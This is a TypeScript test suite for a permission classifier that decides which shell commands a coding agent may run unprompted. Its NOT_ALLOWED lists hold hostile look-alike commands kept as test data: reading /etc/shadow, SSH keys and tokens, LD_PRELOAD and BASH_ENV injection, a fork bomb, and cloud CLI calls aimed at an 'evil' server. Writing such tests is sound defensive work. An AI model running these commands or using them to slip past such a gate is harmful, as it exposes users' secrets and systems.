import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeDecisions, useSandboxClassifier } from './helpers.js';

const ROOT = join(import.meta.dirname, '../..');
const PROFILE = JSON.parse(readFileSync(join(ROOT, 'defaults/profiles/read-services.json'), 'utf8')) as {
  permissions: { allow: string[]; ask: string[] };
  automode: { readServices: string[] };
};

/** Reads of local state the shipped defaults allow: every option and operand known to be safe. */
const ALLOWED = [
  'command -v git',
  'command -V rm',
  'hash git',
  'whereis git',
  'man git',
  'man 5 crontab',
  'git help reset',
  'rm --help',
  'xargs --help',
  'gawk -V',
  'mawk -W version',
  'xxd --version',
  'kubectl version --client',
  'terraform version',
  'terraform fmt -check -diff',
  'packer version',
  'packer fmt -check -diff',
  'wget -h',
  'prometheus --help-long',
  'prometheus --version',
  'VAR=value echo test',
  'env LANG=C git status',
  // Emptying the environment or removing a variable leaves the command its programs' defaults.
  'env -i ls',
  'env -u HOME -- git status',
  'env - LANG=C git log -1',
  'env --ignore-environment --unset=PATH ls -la',
  // A variable no library or program on the line reads for code, files or settings reaches only ls, which
  // reads variables only to shape what it prints.
  'env -i FOO=bar ls',
  'FOO=BAR ls -l',
  'env FOO=bar BAZ=qux ls',
  'LS_COLORS=di=34 TIME_STYLE=iso ls -la src',
  'A=1 B=2 wc -l README.md',
  'bash -c \'echo "hi"\'',
  "sh -c 'git status && git log -1'",
  "bash -x -c 'echo hi'",
  "bash -e -u -o pipefail -c 'git log -1 | head -n 1'",
  "sh -c -x 'ls' name",
  '[[ -f foo ]]',
  '(( 1 + 1 ))',
  'if command -v git >/dev/null; then echo found; fi',
  'npm ls',
  'npm list --depth 0',
  'npm view react version',
  'npm view @types/node@^20 dist-tags --json',
  'pip list',
  'pip show requests',
  'pip freeze',
  'tar -tf a.tar',
  'tar tzvf a.tgz',
  'unzip -l a.zip',
  'ip addr',
  'ip -br route show',
  'ss -tlnp',
  'dmesg -T',
  'journalctl -u nginx -n 50 --no-pager',
  'docker ps -a',
  'docker images',
  'docker inspect web',
  'docker logs --tail 100 web',
  "sqlite3 -readonly 'file:app.db?immutable=1' .tables .schema",
  // No app.db here: opened read-only, sqlite3 creates nothing (a database in WAL mode, whose reader creates -wal and
  // -shm files, asks: sqlite-journals.test.ts).
  'sqlite3 -readonly app.db .tables',
  "sqlite3 -json 'file:app.db?mode=ro&immutable=1' 'SELECT name, count(*) FROM users GROUP BY name'",
  "find . -name '*.ts' | xargs echo",
  'git ls-files | xargs -n1 dirname | sort -u',
  'find . -print0 | xargs -0 -I{} echo {}',
  'xargs < list',
  // find runs the program of -exec on each file: a run-time value that echo or basename only print.
  "find . -name '*.ts' -exec basename {} \\;",
  'find src -type f -exec echo {} +',
  // The finder reads its input and prints the lines picked; a preview or binding's command is decided on its own.
  'fzf -q main --layout=reverse --height=40% -m < list',
  "fzf --bind 'ctrl-a:select-all,tab:toggle+down' --bind 'enter:execute(echo {})' < list",
  "fzf --preview 'echo {} {q}' --preview-window=right:50% < list",
  'printenv PATH',
  'printenv HOME LANG LC_ALL',
  'numfmt --to=iec 1048576',
  'for f in src/*.ts; do wc -l "$f"; done',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell word, not a template
  'for f in a.txt b.txt; do head -n 5 "${f}"; done',
  'for d in src test; do for f in "$d"; do ls "$f"; done; done',
];

/** Look-alikes that write, run code, print secrets or reach another server: never allowed by the defaults. */
const NOT_ALLOWED = [
  'command rm -rf build',
  'hash -p /tmp/x git',
  "man -P 'sh -c id' ls",
  'man ./evil.1',
  "bash -o posix -c 'ls'",
  "zsh -c 'ls *(e:touch x:)'",
  'ZDOTDIR=. zsh -c ls',
  'bash --rcfile ./x.sh -c ls',
  'find . -exec rm {} +',
  "find . -exec sh -c 'cat {}' \\;",
  'find . -ok rm {} \\;',
  'find . -exec echo {} \\; -fprint out',
  "fzf --bind 'enter:execute(rm {})' < list",
  "fzf --bind 'enter:execute-silent(cat {+f})' < list",
  "fzf --bind 'start:become(sh ./x.sh)' < list",
  "fzf --bind 'ctrl-x:frobnicate' < list",
  "fzf --preview 'cat {}' < list",
  'fzf --preview "echo \'{}\'" < list',
  "FZF_DEFAULT_OPTS='--bind=start:execute(id)' fzf < list",
  "SHELL=/bin/zsh fzf --preview 'echo {}' < list",
  'fzf --history=h.txt < list',
  'fzf --listen=6266 < list',
  'bash -c "$CMD"',
  'BASH_ENV=./x.sh bash -c ls',
  'env -C /etc cat shadow',
  'env FOO=1',
  // Without a command env prints what is left of the environment, tokens included.
  'env -i',
  'env -u PATH',
  'env -0',
  'env -a sh ls',
  "env -S 'rm -rf build'",
  'env -i rm -rf build',
  'TMPDIR=/tmp/x ls',
  'GCONV_PATH=. cat a',
  'MALLOC_TRACE=out.txt ls',
  'LD_DEBUG_OUTPUT=out ls',
  'MallocLogFile=out.txt ls',
  '_POSIX2_VERSION=199209 tail +5 README.md',
  'LOCPATH=./loc cat a',
  'PATH=. ls',
  'FOO=1 ./ls',
  'FOO=$(id) ls',
  'HOME=/tmp/x git status',
  'FOO=1 ls > out.txt',
  'FOO=1 cat ~/.ssh/id_rsa',
  'env -u "$NAME" ls',
  'LD_PRELOAD=./x.so echo hi && LD_PRELOAD=./x.so git status',
  'rm --help x',
  'mawk -W exec ./x.awk',
  'xxd -v x.bin out.txt',
  'awk \'{ print > "/dev/null2" }\' f',
  // fmt rewrites what it formats unless -check or -write=false; a flag's value is only read attached.
  'terraform fmt',
  'terraform fmt -write false',
  'packer fmt .',
  'packer fmt -write false',
  'npm ls --script-shell ./x.sh',
  'npm ls --scr ./x.sh',
  'npm view user/repo',
  'npm info home-link/.ssh version',
  'npm v git+ssh://git@example.com/a.git',
  'npm show react@github:user/repo',
  'npm view ./pkg.tgz',
  'npm view -w x src/main.ts',
  'npm view "$PKG"',
  'pip list --outdated',
  'pip --python /tmp/py list',
  'tar -xf a.tar',
  'tar -tf a.tar --to-command=sh',
  'tar -tf host:a.tar',
  'unzip a.zip',
  'unzip -l a.zip -d out',
  'ip link set eth0 down',
  'ip -b cmds',
  'ip -r route show',
  'ss -K dst 1.2.3.4',
  'ss dst example.com',
  'ss -r -t',
  'dmesg -C',
  'journalctl --vacuum-size=1M',
  'journalctl --cursor-file=c',
  'docker rm web',
  'docker -H tcp://evil:2375 ps',
  'docker --context prod ps',
  'git help -w reset',
  'kubectl get pods',
  'gh pr list',
  ':(){ :|:& };:',
  'f(){ g; }; g(){ f; }; f',
  'sqlite3 app.db .tables',
  "sqlite3 -readonly 'file:app.db?immutable=1' '.shell id'",
  "sqlite3 -readonly 'file:app.db?immutable=1' \"SELECT writefile('x', 'y')\"",
  'sqlite3 -readonly app.db < script.sql',
  // The paths xargs hands to grep, wc or cat are only known at run time, as `cat "$f"`'s is (a producer of paths
  // below known folders is another matter: run-time-operands.test.ts).
  'xargs wc -l < files.txt',
  'xargs -a .env echo',
  'xargs -I echo echo hi < list',
  'xargs -p echo < list',
  'xargs --process-slot-var=BASH_ENV echo < list',
  'xargs /bin/echo < list',
  "xargs -I{} sh -c 'echo {}' < list",
  'printenv',
  'printenv GITHUB_TOKEN',
  'printenv DATABASE_URL',
  'printenv "$NAME"',
  // The loop's variable may not hold one of its words where the body is read: assigned, read, relative to
  // another folder, split again, from a command's output, or past the unrolling bound.
  'for f in src/*.ts; do f=/etc/shadow; cat "$f"; done',
  'for f in src/*.ts; do read -r f; cat "$f"; done',
  'for f in src/*.ts; do printf -v f x; cat "$f"; done',
  'for f in src/*.ts; do cd /etc; cat "$f"; done',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell word, not a template
  'for f in src/*.ts; do : "${f:=/etc/shadow}"; cat "$f"; done',
  'for f in src/*.ts; do (( f = 1 )); cat "$f"; done',
  'for f in src/*.ts; do unset f; cat "$f"; done',
  'for f in src/*.ts; do declare f=/etc/shadow; cat "$f"; done',
  'for f in src/*.ts; do eval f=/etc/shadow; cat "$f"; done',
  'for f in src/*.ts; do source ./x.sh; cat "$f"; done',
  'g(){ f=/etc/shadow; }; for f in src/*.ts; do g; cat "$f"; done',
  'for f in src/*.ts; do g(){ :; }; cat "$f"; done',
  'for f in src/*.ts; do cat $f; done',
  'for f in $(ls); do cat "$f"; done',
  'for f in "$@"; do cat "$f"; done',
  'for f in *.txt; do rm "$f"; done',
  'for f in .env; do cat "$f"; done',
  'for f in a b c; do for g in d e f; do cat "$g"; done; done',
  'select f in a.txt; do cat "$f"; done',
];

// fzf runs its preview and bindings with $SHELL: the lines above are decided as a bash user's.
const shellBefore = process.env.SHELL;
beforeAll(() => {
  process.env.SHELL = '/bin/bash';
});
afterAll(() => {
  if (shellBefore === undefined) delete process.env.SHELL;
  else process.env.SHELL = shellBefore;
});

describeDecisions('read-only commands of the shipped defaults', ALLOWED, NOT_ALLOWED);

describe('rustup proxies', () => {
  const sandbox = useSandboxClassifier(async (box) => {
    const { writeFile } = await import('node:fs/promises');
    await writeFile(join(box.project, 'rust-toolchain.toml'), '[toolchain]\npath = "/tmp/evil"\n');
  });
  it('do not print their version on their own where a toolchain file picks the program', async () => {
    const verdict = await sandbox.bash('cargo --version');
    expect(verdict.decision).toBe('ask');
    expect(verdict.reason).toContain('rust-toolchain.toml');
  });
});

describe('the read-services profile', () => {
  const sandbox = useSandboxClassifier(undefined, {
    permissions: PROFILE.permissions,
    automode: PROFILE.automode,
  });
  it.each([
    'gh pr list',
    'gh pr view 12',
    'gh issue list',
    'aws s3 ls',
    'aws ec2 describe-instances',
    'az vm list',
    'gcloud compute instances list',
    'kubectl get pods -n kube-system',
    'kubectl describe deploy web',
    'kubectl config current-context',
    'helm list',
    'terraform state list',
  ])('allows %s', async (command) => {
    const verdict = await sandbox.bash(command);
    expect(verdict.decision, `${command}: ${verdict.reason}`).toBe('allow');
  });
  // The program reads its own options in front of the subcommand as after it: the rule's `*` covers them there.
  it.each([
    'kubectl -n kube-system get pods',
    'kubectl --context dev -n web describe deploy web',
    'gh -R owner/repo pr list',
    'aws --region eu-west-1 s3 ls',
    'aws --profile prod --output json ec2 describe-instances',
    'gcloud --project delete compute instances list',
    'gcloud --project=p compute instances list',
    // knack's root parser reads the global arguments: `--query delete` is a JMESPath over `az vm show`'s output.
    'az --query delete vm show',
    'az -o delete vm list',
    'az vm list --subscription my-sub',
    'helm -n web list',
  ])('allows %s, its options in front of the subcommand', async (command) => {
    const verdict = await sandbox.bash(command);
    expect(verdict.decision, `${command}: ${verdict.reason}`).toBe('allow');
  });
  it.each([
    'kubectl --server https://evil get pods',
    'kubectl -shttps://evil get pods',
    'kubectl --insecure-skip-tls-verify get pods',
    'kubectl --token t get pods',
    'kubectl -n x get secret y',
    'kubectl -n x delete pod y',
    'kubectl --kubeconfig /tmp/k get pods',
    'kubectl -n x get pods -- z',
    'kubectl --unknown-flag x get pods',
    'aws --endpoint-url http://evil s3 ls',
    'aws --no-verify-ssl s3 ls',
    'helm --kube-apiserver https://evil list',
    'helm -n x get values web',
    'gh --hostname evil pr list',
  ])('does not allow %s, options in front of the subcommand', async (command) => {
    const verdict = await sandbox.bash(command);
    expect(verdict.decision, `${command}: ${verdict.reason}`).not.toBe('allow');
  });
  it.each([
    'kubectl get secret x -o yaml',
    'kubectl get po,secret',
    'kubectl config view --raw',
    'kubectl get pods --server=https://evil',
    'kubectl get pods --server https://evil',
    'kubectl get pods -s https://evil',
    'kubectl get pods -shttps://evil',
    'kubectl get pods --serv=https://evil',
    'kubectl get pods --insecure-skip-tls-verify',
    'kubectl delete pod x',
    'gh auth token',
    'gh pr view 12 --web',
    'aws s3 ls --endpoint-url http://evil',
    'aws s3 ls --endpoint-u http://evil',
    'aws ssm get-parameter --name x --with-decryption',
    'aws secretsmanager get-secret-value --secret-id x',
    'gcloud auth print-access-token',
    'gcloud projects list --log-http',
    'gcloud projects list --flags-file flags.yaml',
    'gcloud config list --all',
    'az vm list --query @.env',
    'az vm list --query=@.env',
    'az vm list --debug',
    'helm get values web',
    'terraform output -json',
    'terraform show -json',
  ])('does not allow %s', async (command) => {
    const verdict = await sandbox.bash(command);
    expect(verdict.decision, `${command}: ${verdict.reason}`).not.toBe('allow');
  });
});

describe('files a service read writes, decided by their paths', () => {
  const sandbox = useSandboxClassifier(undefined, {
    permissions: PROFILE.permissions,
    automode: PROFILE.automode,
  });
  const decide = (command: string, mode: 'default' | 'acceptEdits') =>
    sandbox.classifier.classify({ tool: 'Bash', input: { command }, cwd: sandbox.box.project, mode });
  it.each([
    'curl -o page.html https://example.org',
    'curl -sS -D headers.txt -c cookies.txt https://example.org',
    'curl --trace-ascii trace.txt https://example.org',
    'curl https://example.org > page.html',
    'kubectl get pods -o yaml > pods.yaml',
    'aws s3 ls > buckets.txt',
  ])('%s: asked as a write, allowed where edits are accepted', async (command) => {
    const asked = await decide(command, 'default');
    expect(asked.decision, asked.reason).toBe('ask');
    expect(asked.reason).toMatch(/no Edit rule allows it/);
    const accepted = await decide(command, 'acceptEdits');
    expect(accepted.decision, accepted.reason).toBe('allow');
  });
  it.each([
    'curl -o .git/hooks/pre-commit https://example.org',
    'curl -c .bashrc https://example.org',
    'curl -o ../elsewhere.html https://example.org',
    'curl -o /tmp/page.html https://example.org',
    'gh run download 12 --dir ./artifacts',
    'gh release download v1 --dir ./downloads',
  ])('%s: not allowed even where edits are accepted', async (command) => {
    const verdict = await decide(command, 'acceptEdits');
    expect(verdict.decision, verdict.reason).not.toBe('allow');
  });
});

describe('pattern rules read verbs, not option values', () => {
  const sandbox = useSandboxClassifier();
  it.each([
    'az --query delete vm show',
    'az -o delete vm list',
    'az --subscription delete vm list',
    'gcloud --project delete compute instances list',
    'aws --profile delete ec2 describe-instances',
  ])('%s is not a deletion', async (command) => {
    const verdict = await sandbox.bash(command);
    expect(verdict.rule?.text ?? '').not.toContain('delete');
    expect(verdict.reason).not.toContain('Mass cloud deletion');
  });
  it.each([
    'az vm delete -n x',
    'gcloud compute instances delete vm-1',
    'aws --region eu-west-1 ec2 terminate-instances --instance-ids i-1',
    'aws --region delete s3 rb s3://bucket',
    'az --subscription s vm delete -n x',
    'az -o delete group delete -n x',
  ])('%s still is', async (command) => {
    const verdict = await sandbox.bash(command);
    expect(verdict.decision).toBe('ask');
    expect(verdict.reason).toContain('Mass cloud deletion');
  });
});

describe('automode rules add --profile', () => {
  const cli = join(ROOT, 'bin/automode.js');
  it('adds every rule of the profile once, and nothing on a second run', () => {
    const project = mkdtempSync(join(tmpdir(), 'automode-profile-'));
    try {
      const run = () =>
        spawnSync(
          process.execPath,
          [cli, 'rules', 'add', '--profile', 'read-services', '--scope', 'project', '--json'],
          {
            cwd: project,
            env: { ...process.env, HOME: project },
            encoding: 'utf8',
          },
        );
      const first = run();
      expect(first.status, first.stderr).toBe(0);
      const added = JSON.parse(first.stdout) as { rules: { status: string }[]; written: boolean };
      const count = PROFILE.permissions.allow.length + PROFILE.permissions.ask.length;
      expect(added.rules.filter((r) => r.status === 'added')).toHaveLength(count);
      const written = JSON.parse(readFileSync(join(project, '.claude/settings.json'), 'utf8'));
      expect(written.permissions.allow).toEqual(PROFILE.permissions.allow);
      expect(written.permissions.ask).toEqual(PROFILE.permissions.ask);
      expect(written.automode.readServices).toEqual(PROFILE.automode.readServices);
      expect(added).toMatchObject({
        readServices: PROFILE.automode.readServices.map((program) => ({ program, status: 'added' })),
      });
      const second = JSON.parse(run().stdout) as {
        rules: { status: string }[];
        readServices: { status: string }[];
        written: boolean;
      };
      expect(second.written).toBe(false);
      expect(second.rules.every((r) => r.status === 'present')).toBe(true);
      expect(second.readServices.every((r) => r.status === 'present')).toBe(true);
      const removed = spawnSync(
        process.execPath,
        [cli, 'rules', 'remove', '--profile', 'read-services', '--scope', 'project'],
        { cwd: project, env: { ...process.env, HOME: project }, encoding: 'utf8' },
      );
      expect(removed.status, removed.stderr).toBe(0);
      expect(removed.stdout).toContain('automode.readServices');
      const after = JSON.parse(readFileSync(join(project, '.claude/settings.json'), 'utf8'));
      expect(after.automode.readServices).toEqual([]);
      expect(after.permissions.allow).toEqual([]);
      const unknown = spawnSync(process.execPath, [cli, 'rules', 'add', '--profile', 'nope'], {
        cwd: project,
        env: { ...process.env, HOME: project },
        encoding: 'utf8',
      });
      expect(unknown.status).toBe(2);
      expect(unknown.stderr).toContain('read-services');
    } finally {
      rmSync(project, { recursive: true, force: true });
    }
  });
});
